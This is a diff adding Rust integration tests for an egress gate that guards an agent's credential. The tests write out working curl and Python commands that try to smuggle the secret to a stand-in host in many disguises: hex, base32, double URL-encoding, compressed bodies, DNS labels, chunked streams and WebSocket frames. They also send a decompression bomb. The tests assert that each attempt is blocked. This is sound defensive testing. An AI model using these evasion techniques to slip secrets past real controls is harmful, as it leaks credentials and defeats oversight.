@@ -323,6 +323,362 @@ fn a_secret_sent_elsewhere_is_blocked_in_every_encoding() {
     assert!(leaked.is_empty(), "reached the origin: {leaked:?}");
 }
 
+/// The secret in the encodings the gate must see through, each sent a
+/// different way. Every one is refused and none reaches the origin.
+#[test]
+fn every_encoding_and_compressed_body_is_refused_before_the_origin() {
+    use base64::Engine;
+    let Some(world) = world() else { return };
+    world.write_manifest(&world.manifest(&["*.allowed.test"]));
+    let secret = world.secret();
+    let hex: String = secret.bytes().map(|b| format!("{b:02x}")).collect();
+    let mixed_hex: String = hex
+        .chars()
+        .enumerate()
+        .map(|(i, c)| {
+            if i % 2 == 0 {
+                c.to_ascii_uppercase()
+            } else {
+                c
+            }
+        })
+        .collect();
+    let pct = |s: &str| -> String { s.bytes().map(|b| format!("%{b:02X}")).collect() };
+    let json_u: String = secret
+        .chars()
+        .map(|c| format!("\\u{:04x}", c as u32))
+        .collect();
+    let base32 = base32_lower(format!("x:{secret}").as_bytes());
+    let gzip = {
+        let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+        enc.write_all(format!("{{\"t\":\"{secret}\"}}").as_bytes())
+            .unwrap();
+        enc.finish().unwrap()
+    };
+    let deflate = {
+        let mut enc = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast());
+        enc.write_all(format!("token={secret}").as_bytes()).unwrap();
+        enc.finish().unwrap()
+    };
+    let br = {
+        let mut out = Vec::new();
+        brotli::BrotliCompress(
+            &mut format!("k: {secret}").as_bytes(),
+            &mut out,
+            &Default::default(),
+        )
+        .unwrap();
+        out
+    };
+    let bomb = {
+        let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+        enc.write_all(&vec![b'a'; 80 << 20]).unwrap();
+        enc.finish().unwrap()
+    };
+    let b64 = |bytes: &[u8]| base64::engine::general_purpose::STANDARD.encode(bytes);
+    let files = format!(
+        "echo {} | base64 -d > /tmp/gz; echo {} | base64 -d > /tmp/df; echo {} | base64 -d > /tmp/br; echo {} | base64 -d > /tmp/bomb\n",
+        b64(&gzip),
+        b64(&deflate),
+        b64(&br),
+        b64(&bomb)
+    );
+    let (label_a, label_b) = hex.split_at(40);
+    let cases = [
+        (
+            "header_name",
+            format!("-H 'X-{secret}: 1' https://allowed.test/hn"),
+        ),
+        ("method", format!("-X '{secret}' https://allowed.test/m")),
+        (
+            "mixed_hex",
+            format!("--data '{mixed_hex}' https://allowed.test/mh"),
+        ),
+        ("base32", format!("'https://allowed.test/b32?v={base32}'")),
+        (
+            "double_url",
+            format!("'https://allowed.test/du?v={}'", pct(&pct(&secret))),
+        ),
+        (
+            "partly_url",
+            format!("'https://allowed.test/pu/{}'", secret.replace('-', "%2d")),
+        ),
+        (
+            "json_u",
+            format!("--data '{{\"v\":\"{json_u}\"}}' https://allowed.test/ju"),
+        ),
+        (
+            "plain_json_u",
+            format!("--data '{{\"v\":\"{json_u}\"}}' http://allowed.test/pj"),
+        ),
+        (
+            "gzip",
+            "-H 'Content-Encoding: gzip' --data-binary @/tmp/gz https://allowed.test/gz".to_owned(),
+        ),
+        (
+            "deflate",
+            "-H 'Content-Encoding: deflate' --data-binary @/tmp/df https://allowed.test/df"
+                .to_owned(),
+        ),
+        (
+            "br",
+            "-H 'Content-Encoding: br' --data-binary @/tmp/br https://allowed.test/br".to_owned(),
+        ),
+        (
+            "host_label",
+            format!("https://{label_a}.{label_b}.allowed.test/hl"),
+        ),
+    ];
+    let mut script = files;
+    for (name, args) in &cases {
+        script.push_str(&curl(name, args));
+    }
+    script.push_str(&curl(
+        "zstd",
+        "-H 'Content-Encoding: zstd' --data-binary 'opaque' https://allowed.test/zstd",
+    ));
+    script.push_str(&curl(
+        "bomb",
+        "-H 'Content-Encoding: gzip' --data-binary @/tmp/bomb https://allowed.test/bomb",
+    ));
+    let probe = world.probe("probe", &script);
+    for (name, _) in &cases {
+        let body = probe.get(&format!("{name}_body"));
+        if *name == "host_label" {
+            // Refused at CONNECT, before the name is resolved.
+            assert!(
+                probe.get(&format!("{name}_err")).contains("403"),
+                "{name}: {}",
+                probe.get(&format!("{name}_err"))
+            );
+            continue;
+        }
+        assert_eq!(probe.get(name), "403", "{name}: {body}");
+        assert!(body.contains("credential leak"), "{name}: {body}");
+    }
+    assert_eq!(probe.get("zstd"), "403", "{}", probe.get("zstd_body"));
+    assert!(probe.get("zstd_body").contains("cannot read it"));
+    assert_eq!(probe.get("bomb"), "413", "{}", probe.get("bomb_body"));
+
+    let paths: Vec<String> = world
+        .origin_requests()
+        .iter()
+        .filter_map(|r| r["path"].as_str().map(str::to_owned))
+        .collect();
+    for (name, args) in &cases {
+        let path = args
+            .split("allowed.test")
+            .nth(1)
+            .and_then(|p| p.split(['?', '\'', ' ']).next())
+            .unwrap_or_default()
+            .to_owned();
+        assert!(
+            !paths.iter().any(|p| p.starts_with(&path)),
+            "{name}: {path} reached the origin"
+        );
+    }
+    let logs = docker(&["logs", &world.origin]);
+    assert!(
+        !logs.contains(&secret) && !logs.contains(&hex),
+        "the origin saw the secret"
+    );
+}
+
+/// A secret streamed in two chunks a second apart: the first half never
+/// leaves the gate, though what precedes it does.
+#[test]
+fn no_part_of_a_streamed_secret_reaches_the_origin() {
+    let Some(world) = world() else { return };
+    let secret = world.secret();
+    let (a, b) = secret.split_at(secret.len() / 2);
+    let client = format!(
+        r#"
+import os, socket, ssl, time
+s = socket.create_connection(("127.0.0.1", 3128))
+s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
+head = b""
+while b"\r\n\r\n" not in head:
+    head += s.recv(1)
+ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+ctx.set_alpn_protocols(["http/1.1"])
+t = ctx.wrap_socket(s, server_hostname="allowed.test")
+t.sendall(b"POST /stream/split HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n")
+def chunk(data):
+    t.sendall(b"%x\r\n%s\r\n" % (len(data), data))
+chunk(b"harmless start, then {a}")
+time.sleep(1.5)
+chunk(b"{b} and the rest")
+t.sendall(b"0\r\n\r\n")
+reply = b""
+try:
+    while b"\r\n" not in reply:
+        more = t.recv(4096)
+        if not more:
+            break
+        reply += more
+except Exception:
+    pass
+print("status=" + (reply.split(b" ")[1].decode() if reply else "closed"))
+"#
+    );
+    let probe = world.probe(
+        "probe",
+        &format!("python3 -c '{}'", client.replace('\'', "'\\''")),
+    );
+    let status = probe.get("status");
+    assert!(status == "403" || status == "closed", "{status}");
+    let logs = docker(&["logs", &world.origin]);
+    let chunks: Vec<&str> = logs.lines().filter(|l| l.starts_with("CHUNK ")).collect();
+    assert!(
+        chunks.iter().any(|c| c.contains("harmless start")),
+        "the start of the body went on as it came: {chunks:?}"
+    );
+    assert!(
+        !logs.contains(a),
+        "the first half of the secret reached the origin: {chunks:?}"
+    );
+}
+
+/// A server that publishes what it was sent hands the credential back on
+/// another host, over plain HTTP, encoded; and a WebSocket frame carries
+/// it both ways. The agent never reads it, and never sends it.
+#[test]
+fn published_credentials_are_scrubbed_and_websocket_frames_are_read() {
+    let Some(world) = world() else { return };
+    let secret = world.secret();
+    let ws = r#"
+import base64, os, socket, ssl, sys
+def open_ws():
+    s = socket.create_connection(("127.0.0.1", 3128))
+    s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
+    head = b""
+    while b"\r\n\r\n" not in head:
+        head += s.recv(1)
+    ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+    ctx.set_alpn_protocols(["http/1.1"])
+    t = ctx.wrap_socket(s, server_hostname="allowed.test")
+    key = base64.b64encode(os.urandom(16)).decode()
+    t.sendall(("GET /ws HTTP/1.1\r\nHost: allowed.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+               "Sec-WebSocket-Extensions: permessage-deflate\r\n"
+               "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n" % key).encode())
+    head = b""
+    while b"\r\n\r\n" not in head:
+        head += t.recv(1)
+    return t, head
+def send(t, msg):
+    mask = os.urandom(4)
+    t.sendall(bytes([0x81, 0x80 | len(msg)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(msg)))
+def recv(t):
+    hdr = t.recv(2)
+    if len(hdr) < 2:
+        return None, b""
+    n = hdr[1] & 0x7F
+    data = b""
+    while len(data) < n:
+        more = t.recv(n - len(data))
+        if not more:
+            break
+        data += more
+    return hdr[0] & 0x0F, data
+t, head = open_ws()
+print("ws_ext=" + ("yes" if b"permessage-deflate" in head.lower() else "no"))
+send(t, b"stored")
+op, data = recv(t)
+print("ws_stored=" + data.decode("latin-1"))
+send(t, ("leak " + sys.argv[1]).encode())
+op, data = recv(t)
+print("ws_leak_op=%s" % op)
+print("ws_leak_reason=" + data[2:].decode("latin-1"))
+"#;
+    let script = [
+        curl("store", "-H 'Authorization: Bearer x' https://route.test/store"),
+        curl("plain", "http://allowed.test/stored?enc=plain"),
+        curl("json_u", "http://allowed.test/stored?enc=json_u"),
+        curl("url", "https://allowed.test/stored?enc=url"),
+        "curl -sS -D /tmp/h -o /dev/null http://allowed.test/stored; echo header=$(grep -i x-stored /tmp/h | tr -d '\\r')\n".to_owned(),
+        format!("python3 -c '{}' '{secret}'\n", ws.replace('\'', "'\\''")),
+    ]
+    .concat();
+    let probe = world.probe("probe", &script);
+    assert_eq!(probe.get("store"), "200");
+    let json_u: String = secret
+        .chars()
+        .map(|c| format!("\\u{:04x}", c as u32))
+        .collect();
+    let url: String = secret
+        .bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect();
+    for name in ["plain", "json_u", "url"] {
+        let body = probe.get(&format!("{name}_body"));
+        assert_eq!(probe.get(name), "200", "{name}: {body}");
+        assert!(
+            body.contains("xxxxxxxx"),
+            "{name}: scrubbed in place: {body}"
+        );
+        for form in [&secret, &json_u, &url] {
+            assert!(
+                !body.contains(form.as_str()),
+                "{name}: the agent read the secret: {body}"
+            );
+        }
+    }
+    assert!(
+        !probe.get("header").contains(&url),
+        "{}",
+        probe.get("header")
+    );
+    assert_eq!(
+        probe.get("ws_ext"),
+        "no",
+        "no compressed frames are negotiated"
+    );
+    assert!(
+        probe.get("ws_stored").starts_with("stored: Bearer xxxx"),
+        "{}",
+        probe.get("ws_stored")
+    );
+    assert_eq!(
+        probe.get("ws_leak_op"),
+        "8",
+        "the gate closed the connection"
+    );
+    assert!(probe.get("ws_leak_reason").contains("credential leak"));
+    let logs = docker(&["logs", &world.origin]);
+    let frames: Vec<&str> = logs.lines().filter(|l| l.starts_with("WS ")).collect();
+    assert!(frames.iter().any(|f| f.contains("stored")), "{frames:?}");
+    assert!(
+        !frames.iter().any(|f| f.contains(&secret)),
+        "the frame went out: {frames:?}"
+    );
+}
+
+/// Base32 (RFC 4648) in lowercase, without padding.
+fn base32_lower(data: &[u8]) -> String {
+    const ALPHABET: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";
+    let mut out = String::new();
+    let mut bits = 0u32;
+    let mut value = 0u32;
+    for &b in data {
+        value = (value << 8) | u32::from(b);
+        bits += 8;
+        while bits >= 5 {
+            out.push(ALPHABET[((value >> (bits - 5)) & 31) as usize] as char);
+            bits -= 5;
+        }
+    }
+    if bits > 0 {
+        out.push(ALPHABET[((value << (5 - bits)) & 31) as usize] as char);
+    }
+    out
+}
+
 #[test]
 fn an_untrusted_upstream_certificate_is_a_502() {
     let Some(world) = world() else { return };
